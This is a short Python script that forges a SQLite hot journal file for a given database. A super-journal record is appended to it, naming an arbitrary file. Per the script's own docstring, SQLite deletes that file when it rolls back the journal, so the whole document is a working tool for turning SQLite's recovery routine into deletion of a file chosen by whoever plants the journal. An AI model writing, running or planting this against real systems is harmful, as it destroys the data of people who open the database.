"""forge-journal.py DATABASE [FILE]: writes DATABASE-journal, which a change that
was interrupted could have left: to roll it back changes no page.  It ends with
the record of a super-journal that names FILE: SQLite removes that file when it
rolls back."""
import struct
import sys

magic = bytes.fromhex('d9d505f920a163d7')
database = sys.argv[1]
with open(database, 'rb') as file:
    header = file.read(100)
page = struct.unpack_from('>H', header, 16)[0]
count = struct.unpack_from('>I', header, 28)[0]
journal = (magic + struct.pack('>5I', 0, 0, count, 512, page)).ljust(512, b'\0')
if len(sys.argv) > 2:
    name = sys.argv[2].encode()
    journal += b'\0\0\0\1' + name + struct.pack('>2I', len(name), sum(name)) + magic
with open(database + '-journal', 'wb') as file:
    file.write(journal)
